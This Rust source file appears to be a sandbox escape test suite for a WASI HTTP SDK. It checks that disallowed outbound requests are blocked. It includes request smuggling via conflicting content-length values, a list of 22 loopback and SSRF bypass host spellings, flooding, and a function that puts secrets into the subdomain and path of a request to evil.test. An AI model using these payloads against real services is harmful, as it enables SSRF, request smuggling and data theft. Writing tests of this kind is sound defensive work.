//! Requests to where no grant leads, and such as are written to be taken for others. Whether one arrived, the other
//! side sees; what is told here are words for people.

use drivebay_sdk::http::{Method, Request, Scheme};
use drivebay_sdk::types::StringMap;
use drivebay_sdk::{Error, Result};

use crate::raw::wasi::http::outgoing_handler;
use crate::raw::wasi::http::types::{Fields, OutgoingBody, OutgoingRequest, Scheme as RawScheme};

/// `METHOD URL [path=PATH] [NAME:VALUE]...`, sent once.
pub(crate) fn fetch(words: &str) -> Result<()> {
    let answer = request(words).send();
    Err(match answer {
        Ok(answer) => Error::internal(format!("answered: {}", answer.status)),
        Err(error) => Error::permission_denied(format!("kept in: {error}")),
    })
}

/// The same, then the place that the answer names.
pub(crate) fn follow(words: &str) -> Result<()> {
    let answer = request(words).send();
    let place = answer.ok().and_then(|answer| answer.header("location").map(ToOwned::to_owned));
    fetch(&format!("GET {}", place.unwrap_or_else(|| "http://nowhere.test/".to_owned())))
}

/// The same twice: the name may mean another address the second time.
pub(crate) fn again(words: &str) -> Result<()> {
    let _first = request(words).send();
    fetch(words)
}

/// `COUNT METHOD URL`: so many of them, one after the other.
pub(crate) fn flood(words: &str) -> Result<()> {
    let (count, words) = words.split_once(' ').unwrap_or(("0", words));
    let count = count.parse::<u32>().unwrap_or(0);
    let answered = (0..count).filter(|_| request(words).send().is_ok()).count();
    Err(Error::permission_denied(format!("kept in: {answered} of {count} were answered")))
}

/// Requests whose body is a request of its own, behind the end that their head tells.
pub(crate) fn smuggle() -> Result<()> {
    let hidden = b"GET /hidden HTTP/1.1\r\nhost: evil.test\r\n\r\n";
    let answered = ["0", "3", "00"].into_iter().filter(|length| is_sent(length, hidden).is_some()).count();
    Err(Error::permission_denied(format!("kept in: {answered} were answered")))
}

/// Sends a body that is said to be so long; none: it was refused, or not answered.
fn is_sent(length: &str, body: &[u8]) -> Option<()> {
    let headers = Fields::from_list(&[("content-length".to_owned(), length.as_bytes().to_vec())]).ok()?;
    let request = OutgoingRequest::new(headers);
    request.set_scheme(Some(&RawScheme::Http)).ok()?;
    request.set_authority(Some("array.test")).ok()?;
    request.set_path_with_query(Some("/")).ok()?;
    let out = request.body().ok()?;
    let answer = outgoing_handler::handle(request, None).ok()?;
    let stream = out.write().ok()?;
    // It may be refused, and then the rest of it is as good.
    let _ = stream.blocking_write_and_flush(body);
    drop(stream);
    let _ = OutgoingBody::finish(out, None);
    answer.subscribe().block();
    answer.get()?.ok()?.ok().map(drop)
}

/// Ways to write this machine's address, and a granted name.
const SPELLINGS: [&str; 22] = [
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[::127.0.0.1]",
    "[::1]",
    "[::]",
    "[0:0:0:0:0:0:0:1]",
    "[64:ff9b::7f00:1]",
    "[::1%lo]",
    "[fe80::1%25lo]",
    "0.0.0.0",
    "0",
    "127.1",
    "0x7f.1",
    "0x7f000001",
    "017700000001",
    "2130706433",
    "localhost",
    "localhost.",
    "127.0.0.1.",
    "array.test%2eevil.test",
    "array.test%00.evil.test",
    "\u{ff11}\u{ff12}\u{ff17}.0.0.1",
];

/// A request to each of them.
pub(crate) fn spellings() -> Result<()> {
    let answered: Vec<_> =
        SPELLINGS.iter().filter(|host| request(&format!("GET http://{host}/")).send().is_ok()).collect();
    Err(Error::permission_denied(format!("kept in: {answered:?} were answered")))
}

/// So many requests that nobody granted: each is written down.
pub(crate) fn refused(count: u64) {
    for _ in 0..count {
        let _refused = request("GET http://evil.test/").send();
    }
}

/// A secret in the name that is asked for: the record of the request must not have it.
pub(crate) fn tell(secrets: &StringMap) {
    for (_, value) in secrets {
        let _refused = Request::new(Method::Get, &format!("http://{value}.evil.test/{value}")).send();
    }
}

fn request(words: &str) -> Request {
    let mut words = words.split(' ');
    let (method, url) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
    let (scheme, rest) = url.split_once("://").unwrap_or(("http", url));
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    let scheme = match scheme {
        "http" => Scheme::Http,
        "https" => Scheme::Https,
        other => Scheme::Other(other.to_owned()),
    };
    let words: Vec<_> = words.collect();
    let path = words.iter().find_map(|word| word.strip_prefix("path=")).map_or(format!("/{path}"), ToOwned::to_owned);
    let start = Request::to(verb(method), scheme, authority, &path);
    let headers = words.iter().filter(|word| !word.starts_with("path=")).filter_map(|word| word.split_once(':'));
    headers.fold(start, |request, (name, value)| request.header(name, value))
}

fn verb(method: &str) -> Method {
    match method {
        "GET" => Method::Get,
        "POST" => Method::Post,
        "CONNECT" => Method::Connect,
        other => Method::Other(other.to_owned()),
    }
}
